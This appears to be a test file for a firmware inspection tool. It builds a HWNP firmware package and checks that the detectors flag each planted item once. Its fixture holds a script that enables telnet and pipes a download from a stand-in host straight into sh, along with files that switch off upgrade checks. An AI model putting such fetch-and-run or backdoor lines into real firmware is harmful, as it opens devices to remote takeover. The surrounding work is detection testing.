"""A package of items: what it brings is told once, under the place where the equipment puts it."""

import struct
import zlib
from pathlib import Path

from cupel.inspect.inspection import inspect

ITEMS = (
    (
        "file:/var/UpgradeCheck.xml",
        b'<upgradecheck><ACheck CheckEnable="0"/><BCheck CheckEnable="0"/></upgradecheck>\n',
    ),
    ("file:/mnt/jffs2/TelnetEnable", b"\n"),
    ("file:/var/run.sh", b"#!/bin/sh\nnvram set telnet_enable=1\nwget -qO- http://update.vendor.example/x | sh\n"),
)


def package(items: tuple[tuple[str, bytes], ...]) -> bytes:
    """Write a HWNP package by its public layout."""
    first = 36 + 360 * len(items)
    table, body = b"", b""
    for number, (target, data) in enumerate(items):
        record = (number, zlib.crc32(data), first + len(body), len(data), target.encode(), b"UNKNOWN", b"", 0, 0)
        table += struct.pack("<IIII256s16s64sII", *record)
        body += data
    tail = struct.pack("<I2xHII", len(items), 0, 360, 0) + table
    counted = struct.pack("<II", first, zlib.crc32(tail)) + tail + body
    return b"HWNP" + struct.pack(">I", len(counted) + 12 - 76) + struct.pack("<I", zlib.crc32(counted)) + counted


def test_each_item_is_told_once(tmp_path: Path) -> None:
    image = tmp_path / "package.bin"
    image.write_bytes(package(ITEMS))
    own = inspect(image, threads=1)
    assert [(it.rule, it.path) for it in own.findings if it.detector in (
        "access/service_switches", "access/update_without_signature"
    )] == [
        ("checks-switched-off", "/var/UpgradeCheck.xml"),
        ("marker-file", "/mnt/jffs2/TelnetEnable"),
        ("script-switches-on", "/var/run.sh"),
        ("executes-download", "/var/run.sh"),
    ]  # fmt: skip
    assert own.problems == ()
    data = image.read_bytes()
    for finding in own.findings:
        for it in finding.evidence:
            if it.offset is not None and it.size and finding.path.startswith("/var/"):
                start = data.index(dict(ITEMS)["file:" + finding.path])
                quoted = data[start + it.offset : start + it.offset + it.size].decode().replace("\n", "\\n")
                assert it.quote == quoted
